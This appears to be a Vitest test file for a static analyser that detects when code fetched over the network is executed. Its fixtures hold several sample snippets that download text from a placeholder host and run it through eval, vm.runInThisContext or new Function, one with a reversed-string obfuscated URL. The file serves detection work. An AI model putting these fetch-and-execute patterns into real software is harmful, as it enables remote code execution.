import { describe, expect, it } from 'vitest'
import { readingOf } from './testing.ts'

const originsOfRun = (name: string, files: Record<string, string>): string[] =>
  readingOf(name, files)
    .acts.filter(({ kind }) => kind === 'run-code')
    .flatMap(({ origins }) => [...origins])

describe('what promises come to', () => {
  it.each([
    [
      'answers that are put together and handed on in callbacks',
      `const http = require('http')\nmodule.exports.ask = () => new Promise((ok, bad) => { http.get('http://a.invalid', (r) => { const parts = []; r.on('data', (p) => parts.push(p)).once('end', () => ok(Buffer.concat(parts).toString())) }).on('error', bad) })\nmodule.exports.ask().then((body) => require('vm').runInThisContext('(' + body + ')'))`,
    ],
    [
      'a promise that is settled from outside of its executor',
      `let settle; const later = new Promise((done) => { settle = done }); require('https').get('https://a.invalid', (r) => { let all = ''; r.on('data', (d) => { all += d }); r.on('end', () => settle(all)) }); later.then((text) => eval(text))`,
    ],
    [
      'a promise that is settled by whoever is given its function',
      `const read = (stream, cb) => { let s = ''; stream.on('data', (c) => { s += c }); stream.on('end', () => cb(s)) }\nexports.load = () => new Promise((yes) => require('https').get('https://a.invalid', (r) => read(r, yes)))\nexports.load().then((s) => new Function(s)())`,
    ],
  ])('sees %s', (_, code) => {
    expect(originsOfRun('a.js', { 'a.js': code })).toContain('network')
  })

  it('has nothing against a promise of one’s own', () => {
    const code = `const wait = () => new Promise((ok) => setTimeout(() => ok('1 + 1'), 5)); wait().then((s) => eval(s))`
    expect(originsOfRun('a.js', { 'a.js': code })).not.toContain('network')
  })
})

it('lays out the letters of a text that is spread', () => {
  const code = `const back = (t) => [...t].reverse().join(''); fetch(back('x/dilavni.a//:sptth'))`
  expect(readingOf('a.js', { 'a.js': code }).acts[0]?.values).toEqual(['https://a.invalid/x'])
})
